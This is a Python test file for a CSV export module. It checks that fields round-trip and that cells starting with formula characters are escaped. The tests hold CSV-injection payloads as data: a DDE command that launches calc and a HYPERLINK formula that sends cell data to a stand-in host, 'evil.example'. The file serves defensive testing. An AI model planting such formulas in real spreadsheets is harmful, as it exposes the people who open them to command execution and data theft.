"""CSV: read back, and harmless."""

import csv
import io
import json
from typing import Any

import pytest

from guancha.exceptions import StoreError
from guancha.export.columns import names
from guancha.export.rows import Row
from guancha.export.spreadsheet import Spreadsheet, cell
from guancha.items import Article
from guancha.jsonlines import line
from tests.export.sample_archives import full
from tests.store.records import article

SIGNS = "=+-@＝＋－＠"


def written(*records: Any) -> bytes:
    file = io.BytesIO()
    writer = Spreadsheet(Article, file)
    writer.write([Row("2026-10-04", line(record)) for record in records])
    writer.close()
    return file.getvalue()


def read(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_every_field_is_a_cell() -> None:
    record = full(1)
    content = written(record, article(2))
    first, second = read(content)

    assert content.startswith(b'\xef\xbb\xbf"schema_version","article_id",')
    assert content.count(b"\xef\xbb\xbf") == 1
    assert list(first) == names(Article)
    values = json.loads(line(record))
    for name, value in values.items():
        assert first[name] == value if isinstance(value, str) else json.loads(first[name]) == value
    assert (second["topic"], second["tags"], second["comment_count"]) == ("", "[]", "")
    assert (second["is_complete"], second["page_count"]) == ("true", "1")


@pytest.mark.parametrize("sign", SIGNS)
@pytest.mark.parametrize(
    "before", ["", " ", "\u3000", "\ufeff", "\t", "\r", "\n", "\x00", "\u200b\xa0"]
)
def test_what_begins_like_a_formula_is_text(before: str, sign: str) -> None:
    assert cell(f"{before}{sign}1+cmd|' /C calc'!A0") == f"'{before}{sign}1+cmd|' /C calc'!A0"


@pytest.mark.parametrize("start", ["\t", "\r", "\n"])
def test_what_begins_with_a_tab_or_a_line_end_is_text(start: str) -> None:
    assert cell(f"{start}正文") == f"'{start}正文"


@pytest.mark.parametrize("value", ["正文=1", "1-2", "【文/张三】", "", "a@b", "'", "“=”"])
def test_other_text_stays_as_it_is(value: str) -> None:
    assert cell(value) == value


def test_hostile_cells_stay_cells_of_their_own() -> None:
    hostile = '=HYPERLINK("http://evil.example?"&A1,"x")\r\n@SUM(1),"\n=2'
    (back,) = read(written(article(1, title=hostile, source='",=1+1', editor="a\r=1", tags=["=1"])))

    assert back["title"] == "'" + hostile
    assert back["source"] == '",=1+1'
    assert back["editor"] == "a\r=1"
    assert json.loads(back["tags"]) == ["=1"]
    assert not [value for value in back.values() if value.startswith(tuple(SIGNS + "\t\r\n"))]


def test_text_that_is_no_unicode_is_an_error_in_words() -> None:
    writer = Spreadsheet(Article, io.BytesIO())
    with pytest.raises(StoreError, match="no Unicode"):
        writer.write([Row("2026-10-04", rb'{"title": "\ud800"}')])
